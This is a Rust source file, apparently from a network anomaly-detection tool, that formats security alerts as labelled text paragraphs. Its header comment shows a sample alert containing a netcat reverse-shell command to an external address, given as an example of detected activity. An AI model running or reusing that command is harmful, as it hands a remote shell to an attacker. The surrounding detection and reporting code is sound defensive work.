//! Alerts as a person reads them who was asleep a minute ago.
//!
//! ```text
//!    91  nc on web-01, 3 connections to 198.41.0.4:443 (external)
//!        2026-09-12 10:15-10:30 UTC, low (risk 21): Unusual Linux Network Activity
//!   why  nc was seen in 1 of 1,344 active quarter-hours since 29 Aug, never before; …
//!   who  alice (uid 1000)
//!   ran  nc -e /bin/sh 198.41.0.4 443
//! ```
//!
//! The score and what happened come first, then why that is unusual, then whatever one would ask
//! next, and at the end what to do. Of lines that would say the same of every event one is shown,
//! and of others the first few. A rule's advice stands at the first of its alerts only. Piped, no
//! line is broken or cut; on a terminal lines are broken at its width.

use std::collections::BTreeSet;
use std::io::Write as _;

use anstyle::{AnsiColor, Style};

use super::document::Document;
use super::places::Places;
use super::wrap::wrapped;
use super::{RowAlert, Writer, particulars};
use crate::alert::{Alert, points};
use crate::engine::{Cadence, Function, Number};
use crate::output::clock::Clock;
use crate::output::columns::cut;
use crate::time::LAST;

/// How wide the column is that says what a line is about, and the blanks after it.
const LABEL: usize = 7;

/// How many different users, commands and addresses are shown, and how many lines one may take.
const SHOWN: usize = 3;

/// How many of the next steps are shown.
const STEPS: usize = 3;

/// Writes alerts as paragraphs.
pub struct Text {
    width: Option<usize>,
    colour: bool,
    places: Option<Box<dyn Places>>,
    clock: Clock,
    /// The rules whose advice has been given.
    advised: BTreeSet<String>,
    /// What follows `oddsock explain` and an alert's id to show how it came about; none if nobody
    /// needs to be told.
    again: Option<String>,
}

impl Text {
    /// Paragraphs for a terminal of this width, or for anything else if there is none.
    pub fn new(width: Option<usize>, colour: bool, places: Option<Box<dyn Places>>) -> Text {
        Text { width, colour, places, clock: Clock::plain(), advised: BTreeSet::new(), again: None }
    }

    /// Paragraphs that also say how an alert is explained, with these words behind its id.
    pub fn explained_by(self, words: String) -> Text {
        Text { again: Some(words), ..self }
    }

    /// A line with its label, broken into as many as it takes.
    fn line(&self, label: &str, text: &str, style: Style, out: &mut Vec<u8>) {
        self.lines(label, text, usize::MAX, style, out);
    }

    fn lines(&self, label: &str, text: &str, most: usize, style: Style, out: &mut Vec<u8>) {
        let room = self.width.map_or(usize::MAX, |width| width.saturating_sub(LABEL).max(20));
        let mut lines = wrapped(text, room);
        if lines.len() > most {
            lines.truncate(most);
            if let Some(last) = lines.last_mut() {
                let whole = format!("{last} …");
                last.clear();
                cut(&whole, room, 0, last);
            }
        }
        self.labelled(label, &lines, style, out);
    }

    fn labelled(&self, label: &str, lines: &[String], style: Style, out: &mut Vec<u8>) {
        let paint = |style: Style| if self.colour { style } else { Style::new() };
        // The label of what stands out does so as well.
        let dim = if style.is_plain() { Style::new().dimmed() } else { style };
        let (style, dim) = (paint(style), paint(dim));
        for (at, line) in lines.iter().enumerate() {
            let label = if at == 0 { label } else { "" };
            let _ = writeln!(out, "{dim}{label:>5}{dim:#}  {style}{line}{style:#}");
        }
    }

    fn heading(&mut self, alert: &Alert, ends: &[String], out: &mut Vec<u8>) {
        let score = points(alert.finding.score);
        let style = match alert.finding.score {
            75.0.. => AnsiColor::Red.on_default().bold(),
            50.0.. => AnsiColor::Yellow.on_default().bold(),
            _ => Style::new().bold(),
        };
        self.line(&score, &headline(alert, ends), style, out);
        let start = minute(&mut self.clock, alert.bucket_start_ms);
        let span = u64::from(alert.rule.question.span.seconds()) * 1000;
        let end = minute(&mut self.clock, alert.bucket_start_ms.saturating_add(span));
        // The day of the end goes without saying if it is the same.
        let end = if end[..10] == start[..10] { &end[11..] } else { &end };
        let (severity, risk) = (alert.rule.severity, alert.rule.risk_score);
        let mut text = format!("{start}-{end} UTC, {severity} (risk {risk}): {}", title(alert));
        for (is, said) in [
            (alert.is_provisional, "provisional"),
            (alert.is_expected, "expected"),
            (alert.excepted.is_some(), "excepted"),
        ] {
            text += &if is { format!(", {said}") } else { String::new() };
        }
        self.line("", &text, Style::new(), out);
    }

    /// The first of what several documents say, each once, and how many there are besides: of so
    /// many in all, if that is known.
    fn some(&self, label: &str, mut all: Vec<String>, number: Option<Number>, out: &mut Vec<u8>) {
        let mut known = BTreeSet::new();
        all.retain(|said| known.insert(said.clone()));
        for (at, said) in all.iter().take(SHOWN).enumerate() {
            let label = if at == 0 { label } else { "" };
            self.lines(label, said, SHOWN, Style::new(), out);
        }
        let Number { number, is_exact } = number.unwrap_or(Number { number: 0, is_exact: true });
        let more = number.max(all.len() as u64) - all.len().min(SHOWN) as u64;
        if !all.is_empty() && more > 0 {
            let about = if is_exact || number <= all.len() as u64 { "" } else { "about " };
            self.line("", &format!("and {about}{more} more"), Style::new(), out);
        }
    }

    /// How many of the connections what is said of them is known from, if it is not all.
    fn kept(&self, kept: u64, all: Number, out: &mut Vec<u8>) {
        let said = match kept {
            0 => "the events themselves were not kept".to_owned(),
            kept if kept >= all.number => return,
            kept => format!("as far as {kept} of {} tell", counted(all, "connection")),
        };
        self.line("", &said, Style::new(), out);
    }

    fn past(&mut self, alert: &Alert, out: &mut Vec<u8>) {
        let history = &alert.history;
        let mut parts = Vec::new();
        let first = minute(&mut self.clock, history.first_seen_ms);
        parts.push(match history.last_seen_ms.map(|last| minute(&mut self.clock, last)) {
            None => "first seen now".to_string(),
            Some(last) => format!("first seen {first}, last {last}"),
        });
        parts.push(format!("{} of {} buckets", history.buckets_seen, history.buckets_total));
        if history.hosts.number > 0 {
            parts.push(counted(history.hosts, "host"));
        }
        parts.push(rhythm(history.cadence.as_ref()));
        self.line("past", &parts.join("; "), Style::new(), out);
    }

    fn advice(&mut self, alert: &Alert, out: &mut Vec<u8>) {
        let rule = &alert.rule;
        let threats: Vec<String> = rule
            .threats
            .iter()
            .map(|threat| {
                let of = threat.techniques.iter();
                let ids: Vec<String> = of.map(|one| particulars::word(one.id.as_bytes())).collect();
                let tactic = particulars::text(threat.tactic.name.as_bytes());
                match ids.is_empty() {
                    true => tactic,
                    false => format!("{tactic} ({})", ids.join(", ")),
                }
            })
            .collect();
        if !threats.is_empty() {
            self.line("mitre", &threats.join(", "), Style::new(), out);
        }
        if !rule.next_steps.is_empty() && self.advised.insert(rule.name.clone()) {
            for (at, step) in rule.next_steps.iter().take(STEPS).enumerate() {
                let label = if at == 0 { "next" } else { "" };
                let step = particulars::text(step.as_bytes());
                self.line(label, &format!("{}. {step}", at + 1), Style::new(), out);
            }
        }
        if let Some(words) = &self.again {
            // To be copied: broken or cut, a shell would take it for something else.
            let command = [format!("oddsock explain {}{words}", alert.id)];
            self.labelled("more", &command, Style::new(), out);
        }
    }
}

impl std::fmt::Debug for Text {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Text {{ width: {:?}, colour: {} }}", self.width, self.colour)
    }
}

impl Writer for Text {
    fn alert(&mut self, alert: &Alert, out: &mut Vec<u8>) {
        let documents = Document::all(&alert.evidence);
        let each = |of: &dyn Fn(&Document) -> Option<String>| -> Vec<String> {
            documents.iter().filter_map(of).collect()
        };
        let peers = each(&|document| particulars::peer(document, self.places.as_deref()));
        let ends = each(&particulars::end);
        let (users, commands) = (each(&particulars::user), each(&particulars::command));
        let processes = each(&particulars::process);
        self.heading(alert, &ends, out);
        self.line("why", &alert.why, Style::new(), out);
        // Where all connections are known, they tell themselves how many there are.
        let is_all = documents.len() as u64 >= alert.connections.number;
        let number = |field| number(alert, field).filter(|_| !is_all);
        self.some("who", users, number("user.name"), out);
        self.some("ran", commands, None, out);
        self.some("exe", processes, None, out);
        self.some("to", peers, number("destination.ip"), out);
        self.kept(documents.len() as u64, alert.connections, out);
        self.past(alert, out);
        if let Some(exception) = &alert.excepted {
            let exception = particulars::text(exception.as_bytes());
            self.line("but", &format!("excepted by {exception}"), Style::new(), out);
        }
        self.advice(alert, out);
        out.push(b'\n');
    }

    fn row(&mut self, alert: &RowAlert, out: &mut Vec<u8>) {
        self.line("hunt", &alert.headline(), Style::new().bold(), out);
        for (label, said) in alert.lines() {
            self.some(label, said, None, out);
        }
        let connections = Number { number: alert.connections, is_exact: true };
        self.kept(alert.evidence.len() as u64, connections, out);
        out.push(b'\n');
    }
}

/// `nc on web-01, 3 connections to 198.41.0.4:443 tcp (external)`
pub(crate) fn headline(alert: &Alert, ends: &[String]) -> String {
    let values = &alert.finding.values;
    let mut text = match (alert.finding.function, values.first()) {
        (Function::Burst, _) => format!("{} at once", crate::alert::values(alert)),
        (Function::Comeback, Some(_)) => format!("{} is back", crate::alert::values(alert)),
        _ => crate::alert::values(alert),
    };
    let hosts: Vec<String> = alert.hosts.iter().map(|host| particulars::word(host)).collect();
    match &hosts[..] {
        [] => {}
        [one] => text += &format!(" on {one}"),
        [one, other] => text += &format!(" on {one} and {other}"),
        [one, others @ ..] => {
            let number = alert.hosts_number.number.saturating_sub(1).max(others.len() as u64);
            let about = if alert.hosts_number.is_exact { "" } else { "about " };
            text += &format!(" on {one} and {about}{number} other hosts");
        }
    }
    if alert.connections.number > 0 {
        text += &format!(", {}", counted(alert.connections, "connection"));
    }
    let is_one = ends.iter().all(|end| ends.first() == Some(end));
    if let Some(end) = ends.first().filter(|_| is_one) {
        // The others may have gone elsewhere.
        let known = ends.len() as u64;
        let is_all = known >= alert.connections.number;
        text += &if is_all { format!(" {end}") } else { format!(", {known} of them {end}") };
    }
    text
}

/// How many different values of a field there were, if the rule asks for it.
fn number(alert: &Alert, field: &str) -> Option<Number> {
    let influencer = alert.influencers.iter().find(|influencer| influencer.field == field);
    influencer.map(|influencer| influencer.number)
}

fn title(alert: &Alert) -> String {
    particulars::text(alert.rule.title.as_bytes())
}

pub(crate) fn rhythm(cadence: Option<&Cadence>) -> String {
    match cadence {
        None => "no cadence".to_string(),
        Some(cadence) => format!("{}, {} times in a row", cadence.period.name(), cadence.kept),
    }
}

/// `3 connections`, `about 5000 connections`.
fn counted(number: Number, one: &str) -> String {
    let about = if number.is_exact { "" } else { "about " };
    format!("{about}{} {one}{}", number.number, if number.number == 1 { "" } else { "s" })
}

/// A time to the minute.
fn minute(clock: &mut Clock, millis: u64) -> String {
    let mut out = Vec::new();
    clock.write(millis.min(LAST), &mut out);
    out.truncate(16);
    String::from_utf8_lossy(&out).into_owned()
}

#[cfg(test)]
#[path = "text_tests.rs"]
mod tests;
